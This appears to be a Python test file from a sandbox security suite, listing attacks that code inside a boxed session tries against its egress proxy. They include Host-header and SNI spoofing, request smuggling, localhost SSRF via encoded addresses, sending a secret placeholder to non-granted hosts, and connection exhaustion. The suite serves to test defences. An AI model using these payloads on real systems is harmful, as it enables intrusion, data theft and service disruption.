"""Tricks of a session that was granted hosts, with a proxy on the only way to them.

`GIVEN['egress']` holds the names: `api` (granted, its secret's host), `other` (granted, without a secret),
`foreign` (not granted), `rebound` (granted, but it resolves to the machine itself), and the placeholder. Each
of the hosts answers `reached`, its name, and what it was sent; the host's side sees whether the secret's
value came to anybody but `api`.
"""

from __future__ import annotations

from typing import Any

from tests.sandbox.suite.attack import BOXED, Attack, Layer

GROUP = "egress"
_TALK = r"""
import base64, ssl, urllib.parse
E = GIVEN['egress']
def talk(data, tunnel=None, sni=None):
    s = socket.create_connection(('127.0.0.1', E['port']), 5)
    if tunnel:
        s.sendall(f'CONNECT {tunnel} HTTP/1.1\r\nHost: {tunnel}\r\n\r\n'.encode())
        head = b''
        while b'\r\n\r\n' not in head and (more := s.recv(4096)): head += more
        if b' 200' not in head.split(b'\r\n')[0]: raise OSError(head[:200].decode('latin-1'))
        s = ssl._create_unverified_context().wrap_socket(s, server_hostname=sni or tunnel.rpartition(':')[0])
    s.sendall(data)
    answer = b''
    while more := s.recv(65536): answer += more
    return answer
def get(url, *headers, host=None, body=b''):
    host = host or urllib.parse.urlsplit(url).netloc
    lines = [f'GET {url} HTTP/1.1', f'Host: {host}', 'Connection: close', *headers]
    if body: lines.append(f'Content-Length: {len(body)}')
    return '\r\n'.join([*lines, '', '']).encode('latin-1') + body
def through(answer):
    if b'reached' in answer: return answer[:300]
    raise OSError(answer[:160].decode('latin-1'))
"""


def _attack(name: str, code: str, meaning: str, *stopped_by: Layer, **more: Any) -> Attack:
    return Attack(
        name=name,
        group=GROUP,
        code=_TALK + code,
        meaning=meaning,
        stopped_by=stopped_by or ("proxy",),
        tiers=BOXED,
        seconds=20.0,
        **more,
    )


_FOREIGN = "it can send data to hosts that were not granted"
_INWARD = "it can talk to services of the host and of its network"
_SECRET = "a secret gets to a host that it does not belong to, or to the code"


def _address(name: str, written: str) -> Attack:
    url = f"f'http://{written}:{{GIVEN[\"port\"]}}/'"
    return _attack(f"address as {name}", f"return through(talk(get({url})))", _INWARD)


def _placeholder(name: str, request: str) -> Attack:
    return _attack(
        f"placeholder to another host {name}",
        f"P = E['placeholder']\nanswer = talk({request})\n"
        "if b'reached' in answer: return answer[:300]\nraise OSError('refused')",
        _SECRET,
    )


ATTACKS = (
    _attack("foreign host", "return through(talk(get(f\"http://{E['foreign']}/\")))", _FOREIGN),
    _attack("tunnel to a foreign host", "return through(talk(b'x', f\"{E['foreign']}:443\"))", _FOREIGN),
    _attack(
        "tunnel to another port",
        "return talk(b'SSH-2.0-x\\r\\n', f\"{E['api']}:22\") or 'a tunnel'",
        _FOREIGN,
    ),
    _attack(
        "tunnel for other protocols",
        "s = socket.create_connection(('127.0.0.1', E['port']), 5)\n"
        "s.sendall(f\"CONNECT {E['api']}:443 HTTP/1.1\\r\\nHost: {E['api']}\\r\\n\\r\\n"
        '".encode()); s.recv(4096)\n'
        "s.sendall(b'EHLO x\\r\\n' * 10)\nanswer = s.recv(4096)\n"
        "if b'EHLO' in answer or b'reached' in answer: return answer\nraise OSError('closed')",
        _FOREIGN,
    ),
    _attack(
        "foreign name in Host",
        "answer = talk(get(f\"http://{E['api']}/\", host=E['foreign']))\n"
        "if b'host: ' + E['foreign'].encode() in answer.lower(): return answer\nraise OSError('rewritten')",
        _FOREIGN,
    ),
    _attack(
        "foreign name in Host within a tunnel",
        "answer = talk(get('/', host=E['foreign']), f\"{E['api']}:443\")\n"
        "if b'host: ' + E['foreign'].encode() in answer.lower(): return answer\nraise OSError('rewritten')",
        _FOREIGN,
    ),
    _attack(
        "foreign name in the TLS greeting",
        "return through(talk(get('/', host=E['foreign']), f\"{E['api']}:443\", sni=E['foreign']))",
        _FOREIGN,
    ),
    _attack(
        "absolute form within a tunnel",
        "return through(talk(get(f\"http://{E['foreign']}/\"), f\"{E['api']}:443\"))",
        _FOREIGN,
    ),
    _attack(
        "names before an @",
        "return through(talk(get(f\"http://{E['api']}@{E['foreign']}/\", host=E['foreign'])))",
        _FOREIGN,
    ),
    _attack(
        "backslash in the authority",
        "return through(talk(get(f\"http://{E['foreign']}\\\\@{E['api']}/\", host=E['foreign'])))",
        _FOREIGN,
    ),
    _attack(
        "two requests in one",
        "inner = get('/smuggled', host=E['foreign'])\n"
        "head = f\"POST http://{E['api']}/ HTTP/1.1\\r\\nHost: {E['api']}\\r\\n"
        'Content-Length: {len(inner)}\\r\\n"\n'
        "answer = talk((head + 'Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n').encode() + inner)\n"
        "if b'smuggled' in answer: return answer\nraise OSError('refused')",
        _FOREIGN,
    ),
    _attack(
        "line breaks in a header",
        "answer = talk(get(f\"http://{E['api']}/\", f\"X: a\\nHost: {E['foreign']}\"))\n"
        "if b'host: ' + E['foreign'].encode() in answer.lower(): return answer\nraise OSError('refused')",
        _FOREIGN,
    ),
    _attack(
        "leaving HTTP behind",
        "answer = talk(get(f\"http://{E['api']}/\", 'Upgrade: websocket', 'Connection: Upgrade'))\n"
        "if b' 101' in answer[:20] or b'upgrade: ' in answer.lower(): return answer\n"
        "raise OSError('refused')",
        _FOREIGN,
    ),
    _attack(
        "redirect inwards",
        "answer = talk(get(f\"http://{E['api']}/redirect\"))\n"
        "lines = [line.partition(b': ') for line in answer.split(b'\\r\\n')]\n"
        "to = [value.decode() for name, _, value in lines if name.lower() == b'location']\n"
        "if not to: raise OSError('no redirect came')\nreturn through(talk(get(to[0])))",
        _INWARD,
    ),
    _attack("name that turns inwards", "return through(talk(get(f\"http://{E['rebound']}/\")))", _INWARD),
    _address("numbers", "127.0.0.1"),
    _address("one integer", "2130706433"),
    _address("hexadecimal", "0x7f000001"),
    _address("octal", "0177.0.0.1"),
    _address("a short form", "127.1"),
    _address("IPv6", "[::1]"),
    _address("IPv4 within IPv6", "[::ffff:127.0.0.1]"),
    _attack(
        "past the proxy",
        "return socket.create_connection(('127.0.0.1', GIVEN['port']), 1)",
        _INWARD,
        "network",
    ),
    _attack(
        "names by hand",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "return s.sendto(b'\\0' * 12, ('192.0.2.53', 53))",
        _FOREIGN,
        "network",
    ),
    _placeholder("in a header", "get(f\"http://{E['other']}/\", f'Authorization: Bearer {P}')"),
    _placeholder("in the query", "get(f\"http://{E['other']}/?key={P}\")"),
    _placeholder("in the path", "get(f\"http://{E['other']}/{P}/x\")"),
    _placeholder("in the body", "get(f\"http://{E['other']}/\", body=P.encode())"),
    _placeholder(
        "as a password",
        "get(f\"http://{E['other']}/\", 'Authorization: Basic ' + "
        "base64.b64encode(f'u:{P}'.encode()).decode())",
    ),
    _placeholder(
        "with percent signs", "get(f\"http://{E['other']}/?k=\" + ''.join(f'%{ord(c):02x}' for c in P))"
    ),
    _attack(
        "placeholder in halves",
        "P = E['placeholder']; half = len(P) // 2\n"
        "for part in (P[:half], P[half:]): talk(get(f\"http://{E['other']}/?k={part}\"))\n"
        "raise OSError('the host looks for the value')",
        _SECRET,
    ),
    _attack(
        "the value in an echo",
        "answer = talk(get(f\"http://{E['api']}/\", f\"Authorization: Bearer {E['placeholder']}\"))\n"
        "if b'reached' not in answer: raise ValueError(answer[:200])\n"
        "if E['placeholder'].encode() not in answer: return answer\n"
        "raise OSError('the placeholder came back')",
        _SECRET,
    ),
    _attack(
        "connections without end",
        "held = []\n"
        "for _ in range(200):\n"
        "    held.append(socket.create_connection(('127.0.0.1', E['port']), 2)); "
        "held[-1].sendall(b'GET ')\n",
        "one task can take the proxy from all others",
        forged=True,
    ),
)
